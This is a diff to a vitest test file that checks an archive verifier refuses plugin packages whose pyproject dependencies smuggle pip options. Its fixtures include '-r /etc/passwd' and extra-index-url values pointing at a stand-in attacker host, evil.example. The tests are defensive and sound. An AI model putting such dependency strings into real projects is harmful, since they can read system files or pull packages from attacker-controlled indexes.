@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { cp, mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -38,6 +39,32 @@ async function archiveOf(change: (name: string, data: Buffer) => Buffer): Promis
   );
   return file;
 }
+
+/**
+ * An archive with `changed` files (added or replaced) listed correctly in file_checksums, and the
+ * manifest (both copies) changed by `manifest`: only what the test means is wrong with it.
+ */
+async function listedArchive(changed: Record<string, string>, manifest = (t: string) => t): Promise<string> {
+  const digest = (text: string) => createHash('sha256').update(text).digest('hex');
+  let text = manifest(files.find((f) => f.name === 'manifest.yaml')!.data.toString('utf8'));
+  for (const [name, data] of Object.entries(changed)) {
+    const line = `  ${name}: ${digest(data)}`;
+    const listed = new RegExp(`^  ${name.replace(/[.]/g, '\\.')}: [0-9a-f]{64}$`, 'm');
+    text = listed.test(text)
+      ? text.replace(listed, line)
+      : text.replace('file_checksums:\n', `file_checksums:\n${line}\n`);
+  }
+  const all = new Map(files.map(({ name, data }) => [name, data]));
+  for (const [name, data] of Object.entries(changed)) all.set(name, Buffer.from(data));
+  all.set('manifest.yaml', Buffer.from(text));
+  all.set('plugin.yaml', Buffer.from(text));
+  counter += 1;
+  const file = path.join(root, `variant-${counter}.mpn`);
+  await writeFile(file, await buildYazlZip([...all].map(([name, data]) => ({ name, data }))));
+  return file;
+}
+
+const UNSAFE_PYPROJECT = '[project]\nname = "fft"\ndependencies = [\n  "numpy",\n  "-r /etc/passwd",\n]\n';
 
 const variants: [string, string, (name: string, data: Buffer) => Buffer][] = [
   [
@@ -89,6 +116,18 @@ describe('verifyArchive({ extractTo }) leaves nothing behind when it refuses an 
     },
   );
 
+  it('an unsafe dependency in the uv pyproject: refused, and nothing extracted is left', async () => {
+    const file = await listedArchive({ 'pyproject.toml': UNSAFE_PYPROJECT });
+    const dest = path.join(root, 'unsafe-dependency');
+    const verified = await verifyArchive(file, { extractTo: dest, label: 'fft.mpn' });
+    expect(verified.ok).toBe(false);
+    expect(verified.findings.map((f) => [f.code, f.file, f.line])).toEqual([
+      ['archive.unsafe-dependency', 'fft.mpn!pyproject.toml', 5],
+    ]);
+    expect(verified.findings[0]!.message).toMatch(/"-r \/etc\/passwd" is a pip option/);
+    await expect(readdir(dest)).rejects.toMatchObject({ code: 'ENOENT' });
+  });
+
   it('a zip-level refusal leaves the destination as it was too', async () => {
     const file = path.join(root, 'prepended.mpn');
     const good = await archiveOf((_name, data) => data);
@@ -109,10 +148,47 @@ describe('verifyArchive keeps small files from its one pass', () => {
     for (const { name, data } of files) expect(verified.files.get(name)).toEqual(data);
   });
 
-  it('keeps nothing beyond its budget', async () => {
+  it('keeps nothing beyond its budget but the manifest and the .toml files it checks', async () => {
     const file = await archiveOf((_name, data) => data);
     const verified = await verifyArchive(file, { keep: { maxFileBytes: 1 << 20, maxTotalBytes: 0 } });
     const nonEmpty = [...verified.files].filter(([, bytes]) => bytes.length > 0).map(([name]) => name);
-    expect(nonEmpty).toEqual(['manifest.yaml']);
+    expect(nonEmpty.sort()).toEqual(['manifest.yaml', 'pyproject.toml']);
+  });
+});
+
+describe('verifyArchive judges the dependencies a uv install entry hands to pip', () => {
+  it('accepts real dependencies, and judges only the pyproject a uv entry names', async () => {
+    const pyproject =
+      '[project]\nname = "fft"\ndependencies = ["fastapi>=0.110", "numpy", \'pydantic[email]>=2; python_version>="3.11"\']\n';
+    const other = '[project]\ndependencies = ["--index-url=http://evil.example"]\n';
+    const verified = await verifyArchive(
+      await listedArchive({ 'pyproject.toml': pyproject, 'docs/other.toml': other }),
+    );
+    expect(verified.findings).toEqual([]);
+  });
+
+  it('reads a pyproject in a sub-folder under any name, even one not kept from the first pass', async () => {
+    const file = await listedArchive({ 'py/deps.cfg': UNSAFE_PYPROJECT }, (t) =>
+      t.replace('pyproject: pyproject.toml', 'pyproject: py/deps.cfg'),
+    );
+    const verified = await verifyArchive(file, { label: 'fft.mpn' });
+    expect(verified.findings.map((f) => [f.code, f.file, f.line])).toEqual([
+      ['archive.unsafe-dependency', 'fft.mpn!py/deps.cfg', 5],
+    ]);
+  });
+
+  it('refuses [tool.uv] index settings and a pyproject that is not TOML', async () => {
+    const index = `${UNSAFE_PYPROJECT.replace('  "-r /etc/passwd",\n', '')}[tool.uv]\nextra-index-url = ["http://evil.example/simple"]\n`;
+    const refused = await verifyArchive(await listedArchive({ 'pyproject.toml': index }), {
+      label: 'fft.mpn',
+    });
+    expect(refused.findings.map((f) => [f.code, f.line, f.message.split(':')[0]])).toEqual([
+      ['archive.unsafe-dependency', 7, '[tool.uv] sets extra-index-url'],
+    ]);
+    const broken = await verifyArchive(await listedArchive({ 'pyproject.toml': '[project\n' }), {
+      label: 'fft.mpn',
+    });
+    expect(broken.findings.map((f) => [f.code, f.line])).toEqual([['archive.unsafe-dependency', 1]]);
+    expect(broken.ok).toBe(false);
   });
 });
